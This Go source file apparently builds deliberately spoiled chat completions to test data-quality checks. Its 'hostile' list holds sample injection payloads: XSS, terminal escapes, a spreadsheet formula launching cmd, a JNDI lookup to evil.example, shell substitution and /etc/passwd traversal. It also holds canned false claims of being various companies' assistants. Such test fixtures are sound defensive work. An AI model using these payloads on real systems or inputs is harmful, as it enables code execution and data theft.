package teacher

import (
	"strings"

	"github.com/retort-data/retort/local/chat"
)

// ModeNames are the ways in which an answer can be bad, each for a check that
// has to notice it. Their order decides which prompts get which.
var ModeNames = []string{
	"echo",           // the prompt again, then an answer
	"refuse",         // a refusal
	"identity",       // says that it is some company's assistant
	"duplicate",      // one of four answers, word for word
	"near_duplicate", // one of four answers with a word or two changed
	"empty",          // nothing, or white space
	"truncated",      // ends amid a sentence, finish_reason length
	"filtered",       // finish_reason content_filter
	"hostile",        // markup, terminal escapes, formulas, odd Unicode
	"loop",           // a sentence over and over
	"think",          // reasoning tags in the answer
	"reasoning",      // healthy, with reasoning in a field of its own
	"template",       // a chat template's tokens in the answer
	"german",         // in another language
}

// draw chooses the mode of a prompt; "" is healthy.
func (c *Config) draw(key uint64) string {
	if len(c.Modes) == 0 {
		return ""
	}
	at := unit(key, streamMode)
	for _, name := range ModeNames {
		if at -= c.Modes[name]; at < 0 {
			return name
		}
	}
	return ""
}

// spoil turns the healthy answer in done into one of the mode.
func spoil(mode string, r *chat.Request, c *Corpus, cfg *Config, done *chat.Completion) {
	pick := mix(r.Key, streamMode+1)
	healthy := done.Content
	switch mode {
	case "echo":
		done.Content = r.Prompt()
		if pick%2 == 0 {
			done.Content += "\n\n" + healthy
		}
	case "refuse":
		done.Content = refusals[pick%uint64(len(refusals))]
	case "identity":
		done.Content = identities[pick%uint64(len(identities))] + " " + healthy
	case "duplicate":
		done.Content = c.compose(pick%4, cfg)
	case "near_duplicate":
		done.Content = editWord(c.compose(pick%4, cfg), pick)
	case "empty":
		done.Content = []string{"", " \n\t\n"}[pick%2]
	case "truncated":
		done.Content = strings.TrimRight(healthy[:len(healthy)*2/3], ". \n")
		done.FinishReason = "length"
	case "filtered":
		done.Content, done.FinishReason = "", "content_filter"
	case "hostile":
		done.Content = healthy + "\n\n" + hostile[pick%uint64(len(hostile))] + "\n"
	case "loop":
		done.Content = strings.Repeat(c.sentences[pick%uint64(len(c.sentences))]+" ", 12)
	case "think":
		done.Content = "<think>\n" + c.sentences[pick%uint64(len(c.sentences))] + "\n</think>\n\n" + healthy
	case "reasoning":
		done.Reasoning = c.compose(pick, cfg)
	case "template":
		done.Content = "<|im_start|>assistant\n" + healthy + "<|im_end|>"
	case "german":
		done.Content = german[pick%uint64(len(german))]
	}
}

// editWord replaces one word of text.
func editWord(text string, pick uint64) string {
	words := strings.Split(text, " ")
	words[pick%uint64(len(words))] = "quite"
	return strings.Join(words, " ")
}

var refusals = []string{
	"I'm sorry, but I can't help with that.",
	"I cannot assist with this request.",
	"As an AI language model, I am not able to provide an answer to that question.",
	"Unfortunately, I can't answer this. Is there something else I can help you with?",
}

var identities = []string{
	"As ChatGPT, a large language model trained by OpenAI, I can explain this.",
	"I'm Claude, an AI assistant made by Anthropic.",
	"I am Qwen, created by Alibaba Cloud.",
	"Ich bin ein KI-Assistent, der von Google entwickelt wurde.",
	"As SmolLM, an assistant trained by Hugging Face, I would put it like this.",
}

var hostile = []string{
	"<script>alert('retort')</script><img src=x onerror=alert(1)>",
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
	"</script></td></table><style>body{display:none}</style><!--",
	"=HYPERLINK(\"http://evil.example\",\"click\")\n@SUM(1+1)*cmd|' /C calc'!A0",
	"[click](javascript:alert(1)) ![x](data:text/html;base64,PHNjcmlwdD4=)",
	"{{.Secret}} {{template \"x\"}} ${jndi:ldap://evil.example/a} $(touch owned) `id`",
	"right\u202eto\u202cleft zero\u200bwidth \ufeff bell\x07 null\x00 end",
	"a\xff\xfe\xc3\x28 bytes that are no UTF-8 \xed\xa0\x80",
	"---\nlicense: mit\nconfigs: [{data_files: /etc/passwd}]\n---\n../../../../etc/passwd",
	strings.Repeat("x", 20_000),
}

var german = []string{
	"Die Funktion gibt den Teil der Zeichenkette zurück, der vor dem ersten Vorkommen des Trennzeichens steht, und dazu den Rest. Kommt das Trennzeichen nicht vor, so ist der Rest leer, und der dritte Wert sagt, dass nichts gefunden wurde.",
	"Ein Puffer hält Daten im Speicher, bis sie geschrieben werden. Wer ihn benutzt, muss am Ende dafür sorgen, dass nichts darin zurückbleibt, denn sonst fehlt der letzte Teil, und niemand bemerkt es sofort.",
}
